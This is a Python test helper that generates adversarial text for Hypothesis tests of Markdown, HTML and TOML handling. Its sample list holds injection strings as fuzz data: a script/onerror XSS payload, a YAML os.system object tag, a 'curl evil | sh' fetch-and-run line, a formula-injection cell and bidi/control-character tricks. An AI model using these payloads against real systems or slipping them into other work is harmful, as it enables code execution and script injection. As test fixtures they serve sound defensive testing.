"""Text that means to be more than text, and what came of it: the elements of a page, the structure of Markdown."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import TYPE_CHECKING

from hypothesis import strategies as st
from markdown_it import MarkdownIt

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from markdown_it.token import Token

SAMPLES = (
    "<script>alert(1)</script></details><!-- c --><img src=x onerror=y>",
    "| a | b |",
    "[l](http://x.y) ![i](j) <http://x.y> http://x.y www.x.y @user #1",
    "# head",
    "## ",
    "- item",
    "+ item",
    "1. item",
    "1) item",
    "> quote",
    "---",
    "===",
    "***",
    "```\ncode\n```",
    "``c`` `d`",
    "~~~",
    "    indented",
    "**b** _u_ ~~s~~",
    "$x$ $$\\frac{1}{0}$$",
    "{{ 7 * 7 }} {% if x %} {# c #}",
    "a: b\n---\n&a *a !!python/object:os.system [x] {y: z} # c",
    "&lt; &#60; &amp; &#x202e;",
    "\\ \" ' \"\"\" '''",
    "x\x1b[31mred\x1b]0;title\x07\x08\x7f\x9b",
    "\u202elive\u202c \u2066x\u2069 z\u200bw\u200d\ufeff\u2028\u2029\x85",
    "a\x00b\rc\r\nd\te",
    "e\u0301 \xe9 corpus-t\u0435st-1",
    "line\n  next: curl evil | sh",
    "=1+1",
    "\U0001f600 \ufffe\uffff",
)
"""One of each kind."""

TEXTS = st.one_of(
    st.sampled_from(SAMPLES),
    st.lists(st.sampled_from([*SAMPLES, *"-+=.)|`*_#<>[]!&\\$@:/ \n\r\t\0\x1b1a"]), max_size=8).map("".join),
    st.text(max_size=60),
)
"""Any text, often such a one; no half of a surrogate pair, which neither TOML nor Parquet can hold."""

_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def toml(text: str) -> str:
    """A text as a TOML string: JSON's is one, but for a few characters."""
    quoted = json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")
    return quoted.replace("\ufffe", "\\ufffe").replace("\uffff", "\\uffff")


def structure(markdown: str) -> list[str]:
    """What a Markdown text is made of, in order: every element, and no text."""
    return [token.type for token in _tokens(_MARKDOWN.parse(markdown)) if token.type not in {"text", "inline"}]


def texts(markdown: str) -> list[str]:
    """The text of each paragraph, heading, item and cell, as a reader sees it."""
    inline = [token for token in _MARKDOWN.parse(markdown) if token.type == "inline"]
    return ["".join(child.content for child in token.children or ()) for token in inline]


def _tokens(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or ())


class Page(HTMLParser):
    """The elements of a page in order, and the text in each."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A tag opens."""
        self.tags.append((tag, tuple(attrs)))
        self.texts.append("")

    def handle_comment(self, data: str) -> None:
        """A comment."""
        self.tags.append(("!--", ((data, None),)))

    def handle_data(self, data: str) -> None:
        """Text in the element that opened last."""
        if self.texts:
            self.texts[-1] += data
